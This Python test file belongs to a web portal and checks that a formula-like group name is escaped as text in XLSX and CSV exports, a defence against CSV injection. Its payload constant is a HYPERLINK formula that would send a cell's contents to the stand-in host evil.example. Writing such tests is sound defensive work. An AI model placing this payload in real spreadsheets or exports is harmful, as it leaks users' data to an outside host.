"""A name that looks like a formula stays text in every export (OWASP: CSV injection)."""

from __future__ import annotations

import io

import httpx
from openpyxl import load_workbook
from sqlalchemy import select

from app.admin.groups_service import GroupForm, create_group
from app.db import Database
from app.models import Partner, User
from kpi.months import add_months, format_month, month_of
from tests.support.personas import SignIn

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Klick")'


async def _formula_group(database_url: str) -> int:
    db = Database(database_url)
    try:
        async with db.transaction() as session:
            admin = await session.scalar(select(User).where(User.username == "admin"))
            assert admin is not None
            ids = list(await session.scalars(select(Partner.id).where(Partner.number.in_(range(1001, 1010)))))
            form = GroupForm(name=FORMULA, kind="list", partner_ids=[str(i) for i in ids])
            group, _ = await create_group(session, admin.id, form, None)
            return group.id
    finally:
        await db.dispose()


async def test_a_formula_named_group_exports_as_text_in_xlsx_and_csv(
    sign_in: SignIn, portal: str, demo_sqlite: str
) -> None:
    from datetime import date

    group = await _formula_group(demo_sqlite)
    params = {"gruppe": group, "monat": format_month(add_months(month_of(date.today()), -1)), "spanne": "month"}
    async with httpx.AsyncClient(base_url=portal) as browser:
        await sign_in(browser, "gf1001")
        xlsx = await browser.get("/analyse/export/xlsx", params=params)
        csv = await browser.get("/analyse/export/csv", params=params)
    assert xlsx.status_code == csv.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    title = sheet["A1"]
    assert title.data_type == "s" and str(title.value).startswith(FORMULA), (title.data_type, title.value)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # In CSV a dangerous cell begins with an apostrophe; no cell begins with "=", "+", "-" or "@".
    lines = csv.content.decode("utf-8-sig").splitlines()
    assert lines[0].strip('"').startswith("'" + FORMULA.replace('"', '""'))
    cells = [cell.strip('"') for line in lines for cell in line.split(";")]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
